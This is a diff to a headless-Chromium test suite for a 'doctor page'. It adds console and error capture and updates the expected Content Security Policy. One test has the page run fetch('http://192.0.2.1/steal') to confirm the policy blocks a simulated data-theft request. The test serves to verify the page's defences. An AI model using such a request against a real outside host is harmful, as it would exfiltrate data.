@@ -29,6 +29,8 @@ describe.skipIf(skip !== undefined)(skip ?? 'the doctor page in headless Chromiu
   let fileUrl: string;
   const served: string[] = [];
   let requests: string[] = [];
+  /** What the page logged: a policy violation or script error shows here. */
+  let messages: string[] = [];
 
   beforeAll(async () => {
     browser = await launchChromium();
@@ -61,8 +63,11 @@ describe.skipIf(skip !== undefined)(skip ?? 'the doctor page in headless Chromiu
 
   async function open(url: string): Promise<Page> {
     requests = [];
+    messages = [];
     served.length = 0;
     const page = await browser.context.newPage();
+    page.on('console', (message) => messages.push(message.text()));
+    page.on('pageerror', (error) => messages.push(error.message));
     await page.goto(url);
     await page.locator('html[data-ready="true"]').waitFor();
     return page;
@@ -138,6 +143,7 @@ describe.skipIf(skip !== undefined)(skip ?? 'the doctor page in headless Chromiu
     expect(await page.isVisible('#repaired')).toBe(false);
 
     expect(requests).toEqual([fileUrl]);
+    expect(messages).toEqual([]);
     await page.close();
   });
 
@@ -206,25 +212,24 @@ describe.skipIf(skip !== undefined)(skip ?? 'the doctor page in headless Chromiu
 
     expect(served).toEqual([`GET ${DOCTOR_PATH}`, 'GET /jwks.json']);
     expect(requests).toEqual([`${server.url}${DOCTOR_PATH}`, jwksUrl]);
+    expect(messages).toEqual([]);
     await page.close();
   });
 
   it('is forbidden by its security policy from any other request, even one its own script makes', async () => {
     const page = await open(fileUrl);
-    const violations: string[] = [];
-    page.on('console', (message) => violations.push(message.text()));
     // TEST-NET-1 (RFC 5737): plain http off this machine is outside connect-src.
     const outcome = await page.evaluate(
       "fetch('http://192.0.2.1/steal').then(() => 'fetched', (error) => error.name)",
     );
     expect(outcome).toBe('TypeError');
-    expect(violations.join('\n')).toMatch(
+    expect(messages.join('\n')).toMatch(
       /violates the following Content Security Policy directive: "connect-src/,
     );
     expect(requests).toEqual([fileUrl]);
     // The page's policy is what the build says it is.
     expect(await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content')).toMatch(
-      /^default-src 'none'; script-src 'sha256-[^']+'; style-src 'sha256-[^']+'; connect-src https: http:\/\/127\.0\.0\.1:\* http:\/\/localhost:\*; img-src 'none'; base-uri 'none'; form-action 'none'$/,
+      /^default-src 'none'; script-src 'sha256-[^']+'; style-src 'sha256-[^']+'; connect-src https: http:\/\/127\.0\.0\.1:\* http:\/\/localhost:\*; img-src data:; base-uri 'none'; form-action 'none'$/,
     );
     await page.close();
   });
